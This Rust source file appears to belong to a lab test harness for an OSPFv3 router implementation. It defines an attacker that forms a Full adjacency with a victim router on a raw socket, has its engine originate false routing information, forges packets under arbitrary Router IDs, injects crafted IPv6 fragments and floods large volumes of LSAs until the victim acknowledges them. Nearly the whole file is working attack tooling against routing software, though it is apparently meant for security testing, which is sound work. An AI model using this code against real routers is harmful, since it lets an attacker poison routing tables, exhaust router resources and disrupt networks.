//! The attacker as a valid neighbor: an engine of ours on a raw socket of its own, so that the adjacency with the victim is
//! Full, and a way to put any bytes beside what the engine says.

use std::{
    collections::BTreeSet,
    net::{Ipv4Addr, Ipv6Addr},
    sync::{
        Arc, Mutex, MutexGuard, PoisonError,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::{self, JoinHandle},
    time::{Duration, Instant as Clock},
};

use anyhow::{Context, Result, bail};
use nix::net::if_::if_nametoindex;
use ospf_proto::{
    consts::IP_PROTOCOL,
    engine::{Command, Config, Engine, IfaceConfig, Input, LinkEvent, LinkState, NetworkType, Output},
    id::{AreaId, IfaceId, LinkStateId, RouterId},
    lsa::{LsType, Lsa, LsaHeader},
    packet::{LsAck, LsUpd, Packet, PacketBody, PacketHeader},
    state::NeighborState,
    time::Instant,
};

use super::forge;
use crate::{
    netns::Netns,
    peer::Kind,
    raw::RawSocket,
    wait::{Probe, wait_for},
};

/// The interface every router of these labs has.
pub const IFACE: &str = "eth0";
/// Originators that do not exist have this first byte: their LSAs never enter the attacker's own database.
pub const PHANTOM: u8 = 10;
/// LSAs that may be on their way without an acknowledgment.
const WINDOW: usize = 3000;
/// When to send again what was not acknowledged.
const RESEND: Duration = Duration::from_secs(2);
/// How long a flood may make no progress.
const STALLED: Duration = Duration::from_secs(60);
/// `IPPROTO_FRAGMENT`: what is sent on such a socket starts with a Fragment header.
const FRAGMENT: i32 = 44;

/// What names an LSA in an acknowledgment: LS type, Link State ID, Advertising Router.
type Key = (LsType, LinkStateId, RouterId);

fn key(header: &LsaHeader) -> Key {
    (header.ls_type, header.link_state_id, header.adv_router)
}

fn is_phantom(header: &LsaHeader) -> bool {
    Ipv4Addr::from(header.adv_router.0).octets().first() == Some(&PHANTOM)
}

/// Who attacks whom.
#[derive(Debug, Clone, Copy)]
pub struct Parties {
    /// The attacker's Router ID.
    pub router: Ipv4Addr,
    /// The attacker's link-local address.
    pub address: Ipv6Addr,
    /// The victim's Router ID.
    pub victim: Ipv4Addr,
    /// The victim's link-local address.
    pub victim_address: Ipv6Addr,
    /// The type of their link.
    pub kind: Kind,
}

/// The attacker; its engine runs until it is dropped.
#[derive(Debug)]
pub struct Attacker {
    inner: Arc<Inner>,
    thread: Option<JoinHandle<()>>,
}

#[derive(Debug)]
struct Inner {
    parties: Parties,
    iface: IfaceId,
    socket: RawSocket,
    fragments: RawSocket,
    engine: Mutex<Engine>,
    unacknowledged: Mutex<BTreeSet<Key>>,
    start: Clock,
    stop: AtomicBool,
    sent: AtomicU64,
}

impl Attacker {
    /// Starts it in its namespace.
    pub fn start(netns: &Netns, parties: Parties) -> Result<Self> {
        let (index, socket, fragments) = netns.run(|| {
            let index = if_nametoindex(IFACE)?;
            let open = |protocol| RawSocket::open(protocol, IFACE, index);
            anyhow::Ok((index, open(IP_PROTOCOL.into())?, open(FRAGMENT)?))
        })??;
        let iface = IfaceId(index);
        let mut config = Config::new(RouterId(parties.router.into()));
        let mut on = IfaceConfig::new(IFACE);
        (on.hello_interval, on.dead_interval, on.priority) = (1, 4, 0);
        if parties.kind == Kind::PointToPoint {
            on.network_type = NetworkType::PointToPoint;
        }
        config.interfaces.push(on);
        let mut engine = Engine::new(config, u64::from(std::process::id()), Instant::EPOCH);
        let link = LinkState {
            iface,
            name: IFACE.into(),
            up: true,
            mtu: 1500,
            link_local: Some(parties.address),
            prefixes: vec![],
        };
        engine.handle(Instant::EPOCH, Input::Link(LinkEvent::State(link)));
        let inner = Arc::new(Inner {
            parties,
            iface,
            socket,
            fragments,
            engine: Mutex::new(engine),
            unacknowledged: Mutex::default(),
            start: Clock::now(),
            stop: AtomicBool::new(false),
            sent: AtomicU64::new(0),
        });
        let runner = Arc::clone(&inner);
        let thread = thread::Builder::new().name("attacker".into()).spawn(move || runner.run())?;
        Ok(Self { inner, thread: Some(thread) })
    }

    /// Who attacks whom.
    pub fn parties(&self) -> Parties {
        self.inner.parties
    }

    /// The state of the adjacency with the victim, as the attacker sees it.
    pub fn adjacency(&self) -> NeighborState {
        let engine = lock(&self.inner.engine);
        let victim = RouterId(self.inner.parties.victim.into());
        let neighbors = engine.view().neighbors();
        neighbors.iter().find(|n| n.router == victim).map_or(NeighborState::Down, |n| n.state)
    }

    /// Waits until the adjacency with the victim is Full.
    pub fn wait_full(&self, timeout: Duration) -> Result<()> {
        wait_for("the attacker to be Full with its victim", timeout, || {
            let state = self.adjacency();
            Ok(Probe::when(state == NeighborState::Full, (), state.to_string()))
        })
    }

    /// The LSAs of a router in the attacker's database, with their bytes.
    pub fn lsas_of(&self, router: Ipv4Addr, ls_type: LsType) -> Vec<Lsa> {
        let engine = lock(&self.inner.engine);
        let of = |lsa: &Lsa| lsa.header.adv_router == RouterId(router.into()) && lsa.header.ls_type == ls_type;
        engine.view().lsas().into_iter().filter(|view| of(view.lsa)).map(|view| view.lsa.clone()).collect()
    }

    /// Lets the attacker's own engine originate what it is told, as a router that lies would.
    pub fn say(&self, command: Command) {
        let mut engine = lock(&self.inner.engine);
        engine.handle(self.inner.now(), Input::Command(command));
        self.inner.drain(&mut engine);
    }

    /// How many packets were forged and sent so far.
    pub fn sent(&self) -> u64 {
        self.inner.sent.load(Ordering::Relaxed)
    }

    /// The bytes of a well-formed packet from the attacker to its victim.
    pub fn packet(&self, body: PacketBody) -> Vec<u8> {
        self.packet_of(self.inner.parties.router, body)
    }

    /// The same under another Router ID.
    pub fn packet_of(&self, router: Ipv4Addr, body: PacketBody) -> Vec<u8> {
        let Parties { address, victim_address, .. } = self.inner.parties;
        let header = PacketHeader { router_id: RouterId(router.into()), area_id: AreaId(0), instance_id: 0 };
        Packet { header, body }.encode(address, victim_address)
    }

    /// A Link State Update with these LSAs, whatever they are, and this count; length and checksum are right.
    pub fn update(&self, count: u32, lsas: &[Vec<u8>]) -> Vec<u8> {
        let mut bytes = self.packet(PacketBody::LsUpd(LsUpd::default()));
        forge::patch(&mut bytes, 16, &count.to_be_bytes());
        lsas.iter().for_each(|lsa| bytes.extend_from_slice(lsa));
        self.seal(bytes)
    }

    /// Makes length and checksum of a packet right.
    pub fn seal(&self, mut bytes: Vec<u8>) -> Vec<u8> {
        let length = u16::try_from(bytes.len()).unwrap_or(u16::MAX);
        forge::patch(&mut bytes, 2, &length.to_be_bytes());
        self.sum(bytes)
    }

    /// Makes the checksum of a packet right and leaves its length.
    pub fn sum(&self, bytes: Vec<u8>) -> Vec<u8> {
        let Parties { address, victim_address, .. } = self.inner.parties;
        forge::sum_packet(address, victim_address, bytes)
    }

    /// Sends bytes to the victim's link-local address; the kernel cuts what is larger than the MTU into fragments.
    pub fn send(&self, bytes: &[u8]) -> Result<()> {
        self.inner.sent.fetch_add(1, Ordering::Relaxed);
        self.inner.transmit(&self.inner.socket, self.inner.parties.victim_address, bytes)
    }

    /// Sends one IPv6 fragment (RFC 8200 §4.5) whose payload is OSPF.
    pub fn send_fragment(&self, fragment: forge::Fragment<'_>) -> Result<()> {
        self.inner.sent.fetch_add(1, Ordering::Relaxed);
        self.inner.transmit(&self.inner.fragments, self.inner.parties.victim_address, &fragment.bytes())
    }

    /// Floods well-formed LSAs until the victim has acknowledged each of them.
    pub fn flood(&self, lsas: impl IntoIterator<Item = Vec<u8>>) -> Result<()> {
        let mut lsas = lsas.into_iter().peekable();
        let mut waiting: Vec<(Key, Vec<u8>)> = vec![];
        let (mut moved, mut resent) = (Clock::now(), Clock::now());
        let mut left_before = usize::MAX;
        while lsas.peek().is_some() || !waiting.is_empty() {
            while waiting.len() < WINDOW && lsas.peek().is_some() {
                let batch = forge::fill(&mut lsas);
                for lsa in &batch {
                    let key = forge::header_of(lsa).map(|header| key(&header)).context("an LSA without a header")?;
                    lock(&self.inner.unacknowledged).insert(key);
                    waiting.push((key, lsa.clone()));
                }
                self.send(&self.update(u32::try_from(batch.len())?, &batch))?;
            }
            {
                let left = lock(&self.inner.unacknowledged);
                waiting.retain(|(key, _)| left.contains(key));
            }
            if waiting.len() != left_before {
                (left_before, moved) = (waiting.len(), Clock::now());
            }
            if moved.elapsed() > STALLED {
                lock(&self.inner.unacknowledged).clear();
                bail!("{} LSAs are not acknowledged and nothing moves", waiting.len());
            }
            if moved.elapsed() > RESEND && resent.elapsed() > RESEND {
                resent = Clock::now();
                let mut again = waiting.iter().map(|(_, lsa)| lsa.clone()).peekable();
                while again.peek().is_some() {
                    let batch = forge::fill(&mut again);
                    self.send(&self.update(u32::try_from(batch.len())?, &batch))?;
                }
            }
            // What arrives is taken by the engine's thread.
            thread::sleep(Duration::from_millis(1));
        }
        Ok(())
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.inner.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

impl Inner {
    fn now(&self) -> Instant {
        Instant::from_epoch(self.start.elapsed())
    }

    fn run(&self) {
        let mut buffer = vec![0; 65_536];
        while !self.stop.load(Ordering::Relaxed) {
            let now = self.now();
            {
                let mut engine = lock(&self.engine);
                if engine.next_timeout().is_some_and(|at| at <= now) {
                    engine.handle(now, Input::Tick);
                }
                self.drain(&mut engine);
            }
            if self.socket.wait(Duration::from_millis(10)) {
                while let Some((src, dst, length)) = self.socket.receive(&mut buffer) {
                    let bytes = buffer.get(..length).unwrap_or_default();
                    self.take(src, dst, bytes);
                }
            }
        }
    }

    /// Gives a packet to the engine, but for the LSAs of phantoms: these are acknowledged and forgotten.
    fn take(&self, src: Ipv6Addr, dst: Ipv6Addr, bytes: &[u8]) {
        let mut replaced = None;
        if let Ok(Packet { header, body }) = Packet::decode(src, dst, bytes) {
            match body {
                PacketBody::LsAck(ack) => {
                    let mut waiting = lock(&self.unacknowledged);
                    ack.headers.iter().for_each(|header| {
                        waiting.remove(&key(header));
                    });
                }
                PacketBody::LsUpd(LsUpd { lsas, rejected }) => {
                    let phantom = |lsa: &Lsa| is_phantom(&lsa.header);
                    let (phantoms, lsas): (Vec<Lsa>, Vec<Lsa>) = lsas.into_iter().partition(phantom);
                    let headers: Vec<_> = phantoms.iter().map(|lsa| lsa.header).collect();
                    if !headers.is_empty() {
                        self.acknowledge(src, &headers);
                        let body = PacketBody::LsUpd(LsUpd { lsas, rejected });
                        replaced = Some(Packet { header, body }.encode(src, dst));
                    }
                }
                PacketBody::DbDesc(mut db_desc) => {
                    // Described, they would be requested and never come.
                    db_desc.headers.retain(|header| !is_phantom(header));
                    replaced = Some(Packet { header, body: PacketBody::DbDesc(db_desc) }.encode(src, dst));
                }
                _ => {}
            }
        }
        let mut engine = lock(&self.engine);
        let bytes = replaced.as_deref().unwrap_or(bytes);
        engine.handle(self.now(), Input::Packet { iface: self.iface, src, dst, bytes });
        self.drain(&mut engine);
    }

    /// An LSA that comes back is acknowledged by that (RFC 2328 §13 (7)), and wants an acknowledgment.
    fn acknowledge(&self, src: Ipv6Addr, headers: &[LsaHeader]) {
        if src == self.parties.victim_address {
            let mut waiting = lock(&self.unacknowledged);
            headers.iter().for_each(|header| {
                waiting.remove(&key(header));
            });
        }
        for some in headers.chunks(60) {
            let header =
                PacketHeader { router_id: RouterId(self.parties.router.into()), area_id: AreaId(0), instance_id: 0 };
            let body = PacketBody::LsAck(LsAck { headers: some.to_vec() });
            let bytes = Packet { header, body }.encode(self.parties.address, src);
            // Lost like any packet: it is asked for again.
            let _ = self.transmit(&self.socket, src, &bytes);
        }
    }

    fn drain(&self, engine: &mut Engine) {
        while let Some(output) = engine.poll_output() {
            match output {
                // Lost like any packet: the engine retransmits.
                Output::Transmit(packet) => drop(self.transmit(&self.socket, packet.dst, &packet.bytes)),
                Output::Membership(change) => {
                    if let Err(error) = self.socket.set_membership(change.group, change.joined) {
                        eprintln!("attacker: {error:#}");
                    }
                }
                Output::Route(_) | Output::Event(_) => {}
            }
        }
    }

    fn transmit(&self, socket: &RawSocket, dst: Ipv6Addr, bytes: &[u8]) -> Result<()> {
        socket.send((self.parties.address, dst), bytes)
    }
}

fn lock<T>(mutex: &Mutex<T>) -> MutexGuard<'_, T> {
    mutex.lock().unwrap_or_else(PoisonError::into_inner)
}
